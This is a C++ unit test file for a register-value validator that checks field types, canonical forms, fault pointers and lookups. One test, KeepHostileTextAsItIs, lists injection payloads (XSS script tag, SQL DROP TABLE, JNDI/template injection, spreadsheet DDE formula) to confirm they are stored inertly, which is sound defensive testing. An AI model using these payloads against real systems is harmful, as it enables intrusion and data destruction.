// SPDX-License-Identifier: Apache-2.0
#include "app/registers/values.h"

#include <gtest/gtest.h>

#include "app/registers/definition_toml.h"

namespace handslag::app {
namespace {

Field field(FieldKind kind) {
  Field made;
  made.id = "f";
  made.kind = kind;
  made.name.en = "F";
  return made;
}

// "" where the value is taken, else what is said of it; `kept` is its canonical form.
std::string told(const Field& one, const Json& given, Json* kept = nullptr, const Surroundings& around = {}) {
  Definition definition;
  definition.fields.push_back(one);
  Json values = Json::object();
  Faults faults;
  take_values(
      definition, {{"f", given}}, [](const Field&) { return std::string(); }, around, values, faults);
  if (kept != nullptr) *kept = values.value("f", Json());
  if (faults.empty()) return "";
  EXPECT_EQ(faults[0].pointer, "/values/f");
  return faults[0].detail;
}

TEST(RegisterValues, AreTakenByTheirKind) {
  Field number = field(FieldKind::Number);
  number.min = 1;
  number.max = 5;
  number.whole = true;
  Field quarter = field(FieldKind::Text);
  quarter.form = "0000-Q0";
  Field choice = field(FieldKind::Choice);
  choice.choices = {{"mandate", {}}, {"system", {}}};
  Field link = field(FieldKind::Link);
  link.registers = {"walk", "blocked-help"};
  Field links = link;
  links.many = true;
  const Json nobody = Json::array({{{"type", "email"}}});
  struct Row {
    Field field;
    Json given;
    std::string told;  // the beginning; empty: taken
  };
  const Row rows[] = {
      {field(FieldKind::Text), "hej", ""},
      {field(FieldKind::Text), 5, "write a text"},
      {field(FieldKind::Text), "two\nlines", "one line only"},
      {field(FieldKind::LongText), "two\nlines", ""},
      {field(FieldKind::Text), std::string(200, 'x'), ""},
      {field(FieldKind::Text), std::string(201, 'x'), "201 characters are too many; at most 200"},
      {field(FieldKind::Text), std::string("a\0b", 3), "take the character U+0000 away"},
      {field(FieldKind::Text), "\xff", "this is not UTF-8"},
      {quarter, "2026-Q4", ""},
      {quarter, "2026-04", "write it as 0000-Q0"},
      {quarter, "2026-Q44", "write it as 0000-Q0"},
      {number, 5, ""},
      {number, 6, "write 5 or less"},
      {number, 0, "write 1 or more"},
      {number, 2.5, "write a whole number"},
      {number, "2", "write a number"},
      {number, true, "write a number"},
      {field(FieldKind::Instant), "2026-11-19T10:00:00+01:00", ""},
      {field(FieldKind::Instant), "2026-11-19T10:00:00", "write an instant with a zone"},
      {field(FieldKind::Date), "2026-02-28", ""},
      {field(FieldKind::Date), "2026-02-29", "write a day that exists"},
      {field(FieldKind::YesNo), false, ""},
      {field(FieldKind::YesNo), "yes", "write true or false"},
      {choice, "system", ""},
      {choice, "System", "choose one of mandate, system"},
      {field(FieldKind::Event), {{"source", "ivr"}, {"id", "7"}}, ""},
      {field(FieldKind::Event), {{"source", "ivr"}}, "write {\"source\""},
      {field(FieldKind::Customer), Json::array({{{"type", "email"}, {"value", "a@example.se"}}}), ""},
      {field(FieldKind::Customer), nobody, "write {\"type\""},
      {field(FieldKind::Customer), "a@example.se", "write a list of at most 16 identifiers"},
      {link, "blocked-help-7", ""},
      {link, "case-7", "write the id of a record of walk or blocked-help, such as walk-1"},
      {link, Json::array({"walk-1"}), "write the id of a record"},
      {links, Json::array({"walk-1", "walk-2"}), ""},
      {links, "walk-1", "write a list of at most 50 ids"},
  };
  for (const Row& row : rows) {
    const std::string detail = told(row.field, row.given);
    const std::string given = row.given.dump(-1, ' ', false, Json::error_handler_t::replace);
    EXPECT_EQ(detail.substr(0, row.told.size()), row.told) << given;
    if (row.told.empty()) {
      EXPECT_EQ(detail, "") << given;
    }
  }
}

TEST(RegisterValues, HaveOneForm) {
  Json kept;
  EXPECT_EQ(told(field(FieldKind::Instant), "2026-11-19 10:00:00.500+01:00", &kept), "");
  EXPECT_EQ(kept, "2026-11-19T09:00:00.5Z");
  EXPECT_EQ(told(field(FieldKind::Number), 4.0, &kept), "");
  EXPECT_EQ(kept.dump(), "4");
}

TEST(RegisterValues, KeepHostileTextAsItIs) {
  const std::string hostile[] = {"<script>alert(1)</script>",
                                 "'; DROP TABLE register_records; --",
                                 "{{7*7}} ${jndi:ldap://x}",
                                 "=cmd|' /C calc'!A0",
                                 "\xE2\x80\xAE"
                                 "drow",
                                 "å\xCC\x8A \xF0\x9F\x98\xA4",
                                 "\\u0000 \" \\ \t"};
  for (const std::string& text : hostile) {
    Json kept;
    EXPECT_EQ(told(field(FieldKind::Text), text, &kept), "");
    EXPECT_EQ(kept.get<std::string>(), text);
  }
}

TEST(RegisterValues, AskTheHouseForUnitsPeopleAndPromises) {
  Surroundings around;
  around.knows_unit = [](const std::string& unit) { return unit == "service"; };
  around.knows_person = [](const std::string& person) { return person == "ulla"; };
  around.knows_promise = [](const std::string& promise) { return promise == "ask-once"; };
  EXPECT_EQ(told(field(FieldKind::Unit), "service", nullptr, around), "");
  EXPECT_EQ(told(field(FieldKind::Unit), "servise", nullptr, around),
            "no unit has this id; choose one that exists");
  EXPECT_EQ(told(field(FieldKind::Person), "ulla", nullptr, around), "");
  EXPECT_EQ(told(field(FieldKind::Person), "karin", nullptr, around),
            "no person has this id; choose one that exists");
  EXPECT_EQ(told(field(FieldKind::Promise), "ask-once", nullptr, around), "");
  EXPECT_EQ(told(field(FieldKind::Promise), "ask-twice", nullptr, around),
            "no promise has this id; choose one that exists");
}

TEST(RegisterValues, TellEveryFaultAtOnceWithItsPlace) {
  Definition definition;
  definition.fields = {field(FieldKind::Text), field(FieldKind::Number), field(FieldKind::YesNo)};
  definition.fields[1].id = "amount";
  definition.fields[2].id = "must";
  definition.fields[2].required = true;
  Json values = {{"amount", 7}};
  Faults faults;
  take_values(
      definition, {{"f", 1}, {"amuont", 2}, {"a/b~c", 3}, {"amount", "x"}},
      [](const Field&) { return std::string(); }, {}, values, faults);
  check_filled(definition, {"f"}, values, faults);
  std::vector<std::string> pointers;
  for (const Fault& fault : faults) pointers.push_back(fault.pointer);
  EXPECT_EQ(pointers, (std::vector<std::string>{"/values/f", "/values/amuont", "/values/a~1b~0c",
                                                "/values/amount", "/values/must"}));
  EXPECT_EQ(faults[1].detail, "there is no such field; did you mean \"amount\"?");
  EXPECT_EQ(values["amount"], 7);  // what was wrong changed nothing
}

TEST(RegisterValues, CountWhiteSpaceAsEmptyAndNullAsTakenAway) {
  Definition definition;
  definition.fields = {field(FieldKind::Text)};
  definition.fields[0].required = true;
  for (const Json& given : {Json("  "), Json(""), Json()}) {
    Json values = {{"f", "before"}};
    Faults faults;
    take_values(
        definition, {{"f", given}}, [](const Field&) { return std::string(); }, {}, values, faults);
    EXPECT_TRUE(faults.empty());
    check_filled(definition, {}, values, faults);
    ASSERT_EQ(faults.size(), 1U) << given.dump();
    EXPECT_EQ(faults[0].detail, "fill in f (F)");
  }
}

TEST(RegisterValues, AreFoundWhateverTheCase) {
  EXPECT_EQ(folded("RISTADE I STEN: ÅÄÖ É"), "ristade i sten: åäö é");
  EXPECT_EQ(folded("×÷ß 日本"), "×÷ß 日本");
}

}  // namespace
}  // namespace handslag::app
